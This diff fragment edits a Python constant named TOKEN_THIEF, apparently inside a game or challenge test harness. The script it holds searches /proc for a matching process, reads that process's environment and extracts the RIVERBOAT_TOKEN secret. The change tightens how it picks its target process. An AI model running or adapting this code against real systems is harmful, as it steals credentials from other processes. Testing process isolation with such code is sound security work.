@@ -61,10 +61,11 @@ play(seat, b":c\\n")
 TOKEN_THIEF: Final = """\
 import os, sys
 victim, house = None, os.getppid()
+victims_end = b"\\0".join([b"caller.py", b"127.0.0.1", sys.argv[1].encode()])
 while victim is None:
     for name in filter(str.isdigit, os.listdir("/proc")):
         try:
-            if b"caller.py\\x00127" in open(f"/proc/{name}/cmdline", "rb").read():
+            if victims_end in open(f"/proc/{name}/cmdline", "rb").read():
                 variables = open(f"/proc/{name}/environ").read().split("\\0")
                 victim = [each for each in variables if each.startswith("RIVERBOAT_TOKEN=")][0]
         except OSError:
